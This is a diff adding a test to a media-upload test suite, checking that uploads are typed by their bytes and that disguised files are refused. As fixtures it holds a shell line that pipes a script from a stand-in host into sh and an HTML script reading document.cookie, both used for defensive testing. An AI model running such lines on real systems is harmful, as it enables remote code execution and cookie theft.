@@ -212,4 +212,35 @@ describe.each(dialects)('media in an S3-compatible store on %s', (dialect) => {
     expect(replaced.httpStatus).toBe(200);
     expect(await usage()).toBe(await s3.sizeOf(`uploads/${site.id}/${replaced.body.newFilename}`));
   });
+
+  it('the type of an upload is read from its bytes, never from its name or declared type', async () => {
+    const site = await createSite(server.db);
+    const person = await createPerson(server, site, 'student');
+    const as = { site: site.name, token: person.token };
+    for (const [label, bytes] of [
+      ['a shell script', Buffer.from('#!/bin/sh\ncurl -s http://evil.example/x | sh\n')],
+      ['a page with a script', Buffer.from('<html><script>alert(document.cookie)</script></html>')],
+      ['a PNG signature and nothing else', Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x3c, 0x73])],
+    ] as const) {
+      const refused = await server.upload(bytes, {
+        folder: 'profile',
+        fileName: 'photo.png',
+        mimeType: 'image/png',
+        ...as,
+      });
+      expect(refused.httpStatus, label).toBe(415);
+      expect(refused.body, label).toMatchObject({ status: 'ERROR', error_code: 'UNSUPPORTED_FILE' });
+    }
+    expect(await s3.keys(`uploads/${site.id}/`)).toEqual([]);
+    expect(await server.db.selectFrom('media_files').select('id').where('site_id', '=', site.id).execute()).toEqual([]);
+
+    // A real image under a misleading name and type is taken, and what is served is the image the server made.
+    const png = await sharp({ create: { width: 32, height: 32, channels: 3, background: '#123456' } })
+      .png()
+      .toBuffer();
+    const taken = await server.upload(png, { folder: 'profile', fileName: 'notes.txt', mimeType: 'text/plain', ...as });
+    expect(taken.httpStatus).toBe(200);
+    const served = await fetch(`${server.url}/media/avatar/${taken.body.data.UserFileId}`);
+    expect(served.headers.get('content-type')).toBe('image/webp');
+  });
 });
